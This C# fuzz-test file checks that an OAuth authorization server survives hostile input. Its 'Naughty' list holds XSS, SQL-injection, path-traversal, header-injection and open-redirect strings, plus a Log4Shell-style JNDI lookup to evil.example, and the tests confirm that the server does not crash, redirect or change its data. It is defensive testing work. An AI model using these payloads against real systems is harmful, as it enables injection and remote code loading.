using System.Net;
using Latchkey.Provider.Authorization;

namespace Latchkey.Tests.Provider;

/// <summary>
/// Every parameter of the authorization endpoint, of pushed requests and of the pages, with texts that break programs: never a fault, never
/// a foreign address, and nothing is changed.
/// </summary>
public sealed class AuthorizeFuzzTests(ServerFixture servers)
{
    private static readonly string[] Naughty =
    [
        "\0",
        "a\0b",
        "\r\nLocation: https://evil.example",
        "\u202e\u2066",
        "\ufeff",
        "\ufffe",
        "𝕬𝖇𝖈",
        "é",
        "٣",
        "İ",
        "<script>alert(1)</script>",
        "\"'><img src=x>",
        "' OR '1'='1",
        "'; DROP TABLE clients; --",
        "%00",
        "%2e%2e%2f",
        "../../etc/passwd",
        "{{7*7}}",
        "${jndi:ldap://evil.example/x}",
        "{\"a\":{\"b\":[[[[[[1]]]]]]}}",
        "[" + new string('[', 200),
        "{\"id_token\":{\"sub\":{\"value\":1},\"acr\":{\"essential\":\"true\",\"values\":[1,null,{}]}}}",
        "{\"id_token\":[],\"userinfo\":1}",
        "-1",
        "0",
        "1e9",
        "99999999999999999999",
        "9223372036854775807",
        "NaN",
        "true",
        "null",
        "urn:ietf:params:oauth:request_uri:",
        "urn:ietf:params:oauth:request_uri:v1.x.y",
        "https://evil.example/",
        "//evil.example",
        "javascript:alert(1)",
        "none",
        "none none",
        "  ",
        " leading",
        "a&b=c#d?e",
        "v1.20200101000000.AAAA",
        "eyJhbGciOiJub25lIn0.e30.",
        new('x', 3000),
        string.Concat(Enumerable.Repeat("é", 1500)),
    ];

    [Fact]
    public async Task No_parameter_of_authorize_leads_to_a_fault_or_elsewhere()
    {
        using var ann = await ProviderVisitor.Create(servers);
        await ann.SignIn();
        await Unchanged(
            ann,
            async () =>
            {
                foreach (var name in AuthorizationRequestReader.Known.Append("unknown"))
                {
                    foreach (var value in Naughty)
                    {
                        Check(ann, await ann.Authorize((name, value), name == "prompt" ? ("x", "y") : ("prompt", "none")));
                        Check(ann, await ann.Browser.Post("oauth2/authorize", ann.Client.AuthorizeParameters((name, value))));
                    }
                }
            }
        );
    }

    [Fact]
    public async Task No_parameter_of_a_pushed_request_leads_to_a_fault()
    {
        using var ann = await ProviderVisitor.Create(servers);
        await Unchanged(
            ann,
            async () =>
            {
                foreach (var name in AuthorizationRequestReader.Known.Append("client_secret"))
                {
                    foreach (var value in Naughty)
                    {
                        var reply = await ann.Client.Push((name, value));
                        ((int)reply.Status).ShouldBeInRange(200, 499, $"{name}={value}: {reply.Text}");
                        if (reply.Status != HttpStatusCode.Created)
                        {
                            reply.Json.GetProperty("error_description").GetString().ShouldNotBeNull().ShouldNotContain("evil");
                        }
                    }
                }
            }
        );
    }

    [Fact]
    public async Task No_field_of_a_page_leads_to_a_fault_or_elsewhere()
    {
        using var ann = await ProviderVisitor.Create(servers, settings: ["emailCodeLogin=true", "userNamesEnabled=true"]);
        var login = await ann.Authorize();
        using var signedIn = new Browser(ann.Provider);
        var consent = (await signedIn.SignIn(await signedIn.Authorize(ann.Client), ann.Handle)).ShouldBePage("consent");
        await Unchanged(
            ann,
            async () =>
            {
                foreach (var value in Naughty)
                {
                    foreach (
                        var page in new[] { "login", "login/code", "login/factor", "login/recovery-codes", "login/account", "consent" }
                    )
                    {
                        var query = $"?request={Uri.EscapeDataString(value)}&method={Uri.EscapeDataString(value)}";
                        Check(ann, await ann.Browser.Open(page + query));
                        Check(ann, await ann.Browser.Open($"{page}{login.Url.Query}&method={Uri.EscapeDataString(value)}"));
                        Check(
                            ann,
                            await ann.Browser.Post(page + login.Url.Query, [("action", value), ("form-key", value), ("code", value)])
                        );
                    }

                    Check(ann, await ann.Browser.Submit(login, value == "code" ? "sign-in" : null, ("handle", value), ("password", value)));
                    Check(ann, await signedIn.Submit(consent, null, ("form-key", value), ("action", "allow")));
                }
            }
        );
        (await ann.Count("consents")).ShouldBe(0);
    }

    [Fact]
    public async Task Bytes_that_are_no_text_are_refused()
    {
        using var ann = await ProviderVisitor.Create(servers);
        var usual = new Uri(ann.Client.AuthorizeUrl(("prompt", "none"))).PathAndQuery;
        foreach (var bytes in new[] { "%ff", "%c0%af", "%ed%a0%80", "%f4%90%80%80", "%", "%zz" })
        {
            foreach (var name in new[] { "state", "scope", "nonce", "client_id", "redirect_uri", "x" })
            {
                var reply = await ann.Provider.App.Server.Get($"{usual}&{name}={bytes}");
                ((int)reply.Status).ShouldBeInRange(300, 499);
                reply.Header("Location")?.ShouldStartWith($"{ProviderApp.RedirectUri}?error=");
            }
        }
    }

    private static void Check(ProviderVisitor ann, Visit visit)
    {
        ((int)visit.Status).ShouldBeInRange(200, 499, $"{visit.Url}: {visit.Html}");
        visit.Away?.ShouldStartWith($"{ProviderApp.RedirectUri}?");
        visit.Document.QuerySelectorAll("script").ShouldBeEmpty();
        if (visit.Away is null)
        {
            visit.Url.AbsoluteUri.ShouldStartWith($"{ann.Provider.Issuer}/");
        }
    }

    /// <summary>Nothing that a sign-in, a consent or a code would leave behind.</summary>
    private static async Task Unchanged(ProviderVisitor ann, Func<Task> attack)
    {
        string[] tables = ["clients", "users", "sessions", "session_grants", "consents", "used_tokens", "resources"];
        var before = await Task.WhenAll(tables.Select(ann.Count));
        await attack();
        (await Task.WhenAll(tables.Select(ann.Count))).ShouldBe(before);
    }
}
